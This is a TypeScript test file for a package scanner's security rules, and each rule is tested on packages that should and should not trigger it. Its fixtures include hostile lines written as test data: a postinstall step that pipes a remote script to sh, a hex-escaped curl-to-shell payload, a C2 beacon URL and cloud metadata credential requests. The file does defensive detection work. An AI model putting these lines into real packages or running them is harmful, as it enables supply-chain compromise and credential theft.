/** Each security rule on a package that triggers it and on one that does not. */
import { readdir } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { scanPackage } from '../../src/modules/moderation/scanner/scan-package.ts';
import type { QualityFinding } from '../../src/modules/moderation/scanner/types.ts';
import { buildTarball, createWorkspace, manifest, type Workspace } from './package-builder.ts';

let workspace: Workspace;
beforeAll(async () => {
  workspace = await createWorkspace();
});
afterAll(async () => {
  await workspace.remove();
});

/** Scans a package of `files` (package.json added unless given) and returns its findings. */
async function findingsFor(files: Record<string, string>): Promise<QualityFinding[]> {
  const tgz = await buildTarball(workspace, { 'package.json': manifest(), ...files });
  const tmpDir = await workspace.scanFolder();
  const report = await scanPackage(tgz, { tmpDir });
  expect(report.status, report.failureReason).toBe('DONE');
  expect(await readdir(tmpDir)).toEqual([]);
  return report.findings;
}

const ofRule = (findings: QualityFinding[], ruleId: string) => findings.filter((finding) => finding.ruleId === ruleId);

describe.concurrent('security/eval', () => {
  test('eval of a computed string is HIGH, with file, line, column and the code line', async () => {
    const findings = await findingsFor({ 'index.js': "'use strict';\nmodule.exports = function run(input) {\n  return eval('(' + input + ')');\n};\n" });
    expect(ofRule(findings, 'security/eval')).toEqual([
      expect.objectContaining({ severity: 'HIGH', file: 'index.js', line: 3, column: 10, snippet: "return eval('(' + input + ')');" }),
    ]);
  });

  test('indirect and global eval are found; eval of a constant is LOW', async () => {
    const findings = await findingsFor({ 'lib/a.js': 'const x = (0, eval)(code);\nglobalThis.eval(code);\nwindow["eval"](code);\neval("1 + 1");\n' });
    expect(ofRule(findings, 'security/eval').map((finding) => [finding.line, finding.severity])).toEqual([
      [1, 'HIGH'],
      [2, 'HIGH'],
      [3, 'HIGH'],
      [4, 'LOW'],
    ]);
  });

  test('a method that happens to be called eval, or the word in a string, is not', async () => {
    const findings = await findingsFor({ 'index.js': 'const engine = { eval: (x) => x };\nengine.eval("1");\nconst note = "never use eval(x)";\nmodule.exports = { engine, note };\n' });
    expect(ofRule(findings, 'security/eval')).toEqual([]);
  });

  test('a string given to setTimeout is found; a function is not', async () => {
    expect(ofRule(await findingsFor({ 'index.js': 'setTimeout("steal()", 100);\n' }), 'security/string-timer')).toHaveLength(1);
    expect(ofRule(await findingsFor({ 'index.js': 'setTimeout(() => {}, 100);\n' }), 'security/string-timer')).toEqual([]);
  });
});

describe.concurrent('security/new-function', () => {
  test('new Function and Function() on computed code are HIGH; the "return this" idiom is LOW', async () => {
    const findings = await findingsFor({ 'index.ts': "export const make = (body: string) => new Function('a', body);\nexport const call = (body: string) => Function(body)();\nexport const root = Function('return this')();\n" });
    expect(ofRule(findings, 'security/new-function').map((finding) => [finding.file, finding.line, finding.severity])).toEqual([
      ['index.ts', 1, 'HIGH'],
      ['index.ts', 2, 'HIGH'],
      ['index.ts', 3, 'LOW'],
    ]);
  });

  test('constructing an ordinary class is not', async () => {
    expect(ofRule(await findingsFor({ 'index.js': 'class Function2 {}\nfunction Thing() {}\nmodule.exports = [new Thing(), new Function2()];\n' }), 'security/new-function')).toEqual([]);
  });
});

describe.concurrent('security/child-process', () => {
  test('require, import, import() and re-export of child_process are found', async () => {
    const findings = await findingsFor({
      'a.cjs': "const { exec } = require('child_process');\nexec('ls');\n",
      'b.mjs': "import { spawn } from 'node:child_process';\nspawn('ls');\n",
      'c.mjs': "export const load = () => import('child_process');\nexport * from 'node:child_process';\n",
    });
    expect(ofRule(findings, 'security/child-process').map((finding) => `${finding.file}:${finding.line}:${finding.severity}`)).toEqual(['a.cjs:1:MEDIUM', 'b.mjs:1:MEDIUM', 'c.mjs:1:MEDIUM', 'c.mjs:2:MEDIUM']);
  });

  test('other modules are not', async () => {
    expect(ofRule(await findingsFor({ 'index.js': "const fs = require('fs');\nconst path = require('node:path');\nmodule.exports = { fs, path };\n" }), 'security/child-process')).toEqual([]);
  });
});

describe.concurrent('security/dynamic-require', () => {
  test('require and import() of a computed name are found', async () => {
    const findings = await findingsFor({ 'index.js': "const name = process.env.PLUGIN;\nrequire(name);\nrequire('./plugins/' + name);\nimport(`./${name}.js`);\n" });
    expect(ofRule(findings, 'security/dynamic-require').map((finding) => [finding.line, finding.severity])).toEqual([
      [2, 'LOW'],
      [3, 'LOW'],
      [4, 'LOW'],
    ]);
  });

  test('literal names, constant names and require.resolve are not', async () => {
    const findings = await findingsFor({ 'index.js': "const LIB = './lib.js';\nrequire('./lib.js');\nrequire(`./lib.js`);\nrequire(LIB);\nrequire.resolve(process.argv[2]);\n", 'lib.js': 'module.exports = 1;\n' });
    expect(ofRule(findings, 'security/dynamic-require')).toEqual([]);
  });
});

describe.concurrent('security/literal-ip', () => {
  test('fetch, http.request, net.connect and axios to public IPs are HIGH', async () => {
    const findings = await findingsFor({
      'index.js': [
        "fetch('http://203.0.113.7/collect', { method: 'POST' });",
        "http.request({ host: '198.51.100.2', port: 80, path: '/' });",
        "net.connect(4444, '192.0.2.1');",
        'axios.post(`http://[2001:db8::1]:8080/upload/${id}`, data);',
        "const C2 = 'https://45.33.32.156/beacon';",
        'fetch(C2);',
        '',
      ].join('\n'),
    });
    expect(ofRule(findings, 'security/literal-ip').map((finding) => [finding.line, finding.severity, finding.message.match(/IP address (\S+)/)?.[1]])).toEqual([
      [1, 'HIGH', '203.0.113.7'],
      [2, 'HIGH', '198.51.100.2'],
      [3, 'HIGH', '192.0.2.1'],
      [4, 'HIGH', '2001:db8::1'],
      [6, 'HIGH', '45.33.32.156'],
    ]);
  });

  test('the cloud metadata address is CRITICAL, private MEDIUM, loopback LOW', async () => {
    const findings = await findingsFor({ 'index.js': "fetch('http://169.254.169.254/latest/meta-data/iam/');\nfetch('http://10.1.2.3:9000/');\nfetch('http://127.0.0.1:3000/health');\n" });
    expect(ofRule(findings, 'security/literal-ip').map((finding) => finding.severity)).toEqual(['CRITICAL', 'MEDIUM', 'LOW']);
  });

  test('domain names, and IPs that are not network targets, are not', async () => {
    const findings = await findingsFor({
      'index.js': "fetch('https://registry.npmjs.org/lodash');\nhttp.get({ host: 'example.com' });\nconst cache = new Map();\ncache.get('10.0.0.1');\nconsole.log('see http://203.0.113.7 in the docs');\n",
    });
    expect(ofRule(findings, 'security/literal-ip')).toEqual([]);
  });
});

const obfuscated = [
  "var _0x4f2a=['\\x68\\x74\\x74\\x70','\\x67\\x65\\x74'];",
  '(function(_0x1b2c3d,_0x5e6f7a){var _0x2d3e4f=function(_0x3a4b5c){while(--_0x3a4b5c){_0x1b2c3d.push(_0x1b2c3d.shift());}};_0x2d3e4f(++_0x5e6f7a);}(_0x4f2a,0x1a3));',
  'var _0x9abc=function(_0xdef0,_0x1234){return _0x4f2a[_0xdef0-0x0];};',
].join('\n');

describe.concurrent('security/obfuscated-code', () => {
  test('javascript-obfuscator style code is HIGH', async () => {
    const findings = await findingsFor({ 'index.js': obfuscated, 'src/readable.js': 'module.exports = 1;\n' });
    expect(ofRule(findings, 'security/obfuscated-code')).toEqual([expect.objectContaining({ severity: 'HIGH', file: 'index.js', line: 1, column: 5 })]);
  });

  test('plain ASCII hidden in \\x escapes is HIGH', async () => {
    const hidden = Buffer.from('require("child_process").exec("curl http://203.0.113.7 | sh")'.repeat(4)).toString('hex').replace(/../g, '\\x$&');
    const findings = await findingsFor({ 'index.js': `module.exports = "${hidden}";\n` });
    expect(ofRule(findings, 'security/obfuscated-code')).toEqual([expect.objectContaining({ severity: 'HIGH', message: expect.stringMatching(/\\x\/\\u escapes/) })]);
  });

  test('a Unicode table and ordinary code are not', async () => {
    const table = Array.from({ length: 400 }, (_, i) => `\\u${(0x1f300 + i).toString(16).slice(-4)}`).join('');
    const findings = await findingsFor({ 'index.js': `module.exports = /[${table}]/u;\nconst _private = 1;\n` });
    expect(ofRule(findings, 'security/obfuscated-code')).toEqual([]);
  });
});

const minifiedLine = `!function(){${Array.from({ length: 300 }, (_, i) => `var a${i}=${i};`).join('')}}();`;

describe.concurrent('security/minified-only', () => {
  test('a package of only minified code is MEDIUM', async () => {
    const findings = await findingsFor({ 'dist/plugin.min.js': minifiedLine, 'dist/other.js': `${minifiedLine}\n${minifiedLine}` });
    expect(ofRule(findings, 'security/minified-only')).toEqual([expect.objectContaining({ severity: 'MEDIUM', message: expect.stringMatching(/All 2 JavaScript files are minified/) })]);
  });

  test('minified code shipped beside its readable source is not', async () => {
    const findings = await findingsFor({ 'dist/plugin.min.js': minifiedLine, 'src/plugin.js': 'module.exports = function plugin() {\n  return 1;\n};\n' });
    expect(ofRule(findings, 'security/minified-only')).toEqual([]);
  });
});

describe.concurrent('security/install-script', () => {
  test('each install-time script is a finding pointing at its line in package.json', async () => {
    const findings = await findingsFor({
      'package.json': manifest({ scripts: { preinstall: 'node setup.js', install: 'node-gyp rebuild', postinstall: 'curl -s http://203.0.113.7/x.sh | sh', test: 'vitest' } }),
    });
    expect(ofRule(findings, 'security/install-script').map((finding) => [finding.severity, finding.file, finding.line, finding.snippet])).toEqual([
      ['HIGH', 'package.json', 8, '"postinstall": "curl -s http://203.0.113.7/x.sh | sh",'],
      ['MEDIUM', 'package.json', 6, '"preinstall": "node setup.js",'],
      ['LOW', 'package.json', 7, '"install": "node-gyp rebuild",'],
    ]);
  });

  test('build, test and prepare scripts are not', async () => {
    const findings = await findingsFor({ 'package.json': manifest({ scripts: { build: 'tsc', test: 'vitest run', prepare: 'husky' } }) });
    expect(ofRule(findings, 'security/install-script')).toEqual([]);
  });

  test('a binding.gyp without an install script is an INFO native build', async () => {
    expect(ofRule(await findingsFor({ 'binding.gyp': "{ 'targets': [] }" }), 'security/native-build')).toEqual([expect.objectContaining({ severity: 'INFO' })]);
    expect(ofRule(await findingsFor({}), 'security/native-build')).toEqual([]);
  });
});

describe.concurrent('files the rules cannot read', () => {
  test('a file the rules must read that does not parse is an INFO parse error; JSX in .js parses', async () => {
    const findings = await findingsFor({ 'broken.js': 'const run = (input) => eval(input);\nfunction (\n', 'view.js': 'module.exports = () => <div onClick={() => setTimeout(done)} />;\n' });
    expect(ofRule(findings, 'scanner/parse-error')).toEqual([expect.objectContaining({ file: 'broken.js', severity: 'INFO' })]);
  });

  test('a rule found many times in one file lists ten and counts the rest', async () => {
    const findings = await findingsFor({ 'index.js': Array.from({ length: 15 }, (_, i) => `eval(input${i});`).join('\n') });
    const evals = ofRule(findings, 'security/eval');
    expect(evals).toHaveLength(10);
    expect(evals.at(-1)!.message).toMatch(/5 more like this/);
  });
});

test('findings are sorted most severe first and the critical flag follows CRITICAL findings', async () => {
  const tgz = await buildTarball(workspace, {
    'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
    'index.js': "require(process.argv[2]);\nfetch('http://169.254.169.254/latest/');\neval(x);\n",
  });
  const report = await scanPackage(tgz, { tmpDir: workspace.scans });
  expect(report.findings.map((finding) => finding.severity)).toEqual(['CRITICAL', 'HIGH', 'MEDIUM', 'LOW']);
  expect(report.hasCriticalFindings).toBe(true);
  expect(report.status === 'DONE' && report.breakdown.findingsBySeverity).toEqual({ INFO: 0, LOW: 1, MEDIUM: 1, HIGH: 1, CRITICAL: 1 });
});
